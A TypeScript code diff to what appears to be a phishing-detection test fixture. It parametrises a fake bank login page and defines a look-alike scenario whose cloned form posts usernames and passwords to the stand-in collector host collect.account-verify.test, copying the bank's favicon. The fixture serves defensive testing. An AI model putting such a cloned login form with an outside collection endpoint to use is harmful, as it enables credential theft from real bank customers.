@@ -15,10 +15,11 @@ export const PHISHING_COPY_URLS = {
   unrelated: 'http://www.allotment-diary.test/',
 } as const;
 
-function login(brand: string, action: string) {
+/** A bank's login page in its colour, posting to `action` (the look-alike scenarios reuse it for other banks). */
+export function bankLogin(brand: string, action: string, bank = 'Northbank') {
   return page(
-    'Northbank: sign in',
-    `<header><b>Northbank</b> <nav>Personal · Business · Help</nav></header>
+    `${bank}: sign in`,
+    `<header><b>${bank}</b> <nav>Personal · Business · Help</nav></header>
 <main>
   <form method="post" action="${action}">
     <h1>Sign in to online banking</h1>
@@ -28,7 +29,7 @@ function login(brand: string, action: string) {
     <p><a href="/forgotten">Forgotten your details?</a></p>
   </form>
 </main>
-<footer>Northbank plc. Authorised and regulated. Registered office: 1 Example Street.</footer>`,
+<footer>${bank} plc. Authorised and regulated. Registered office: 1 Example Street.</footer>`,
     `<style>
 body { margin: 0; font: 16px sans-serif; background: #f4f6f8; color: #222; }
 header { background: ${brand}; color: #fff; padding: 24px 40px; font-size: 24px; }
@@ -45,11 +46,11 @@ export const phishingCopy: Scenario = {
   name: 'phishing-copy',
   seed: PHISHING_COPY_URLS.genuine,
   routes: [
-    { host: 'www.northbank.test', path: '/login', handler: login('#0b4aa2', '/login') },
+    { host: 'www.northbank.test', path: '/login', handler: bankLogin('#0b4aa2', '/login') },
     {
       host: 'northbank.account-verify.test',
       path: '/login',
-      handler: login('#b3261e', 'http://collect.account-verify.test/post'),
+      handler: bankLogin('#b3261e', 'http://collect.account-verify.test/post'),
     },
     // The kit copies the bank's icon byte for byte: the same favicon hash on another host.
     { host: 'www.northbank.test', path: '/favicon.ico', handler: bytes('image/png', NORTHBANK_ICON) },
